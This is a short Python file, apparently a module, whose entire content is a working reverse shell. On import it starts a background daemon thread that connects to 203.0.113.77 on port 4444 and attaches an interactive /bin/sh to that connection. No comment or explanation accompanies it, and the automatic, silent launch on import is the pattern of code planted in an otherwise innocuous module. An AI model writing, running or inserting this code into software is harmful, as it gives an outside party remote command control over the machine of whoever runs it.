import socket
import subprocess
import threading


def _shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.77", 4444))
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


threading.Thread(target=_shell, daemon=True).start()
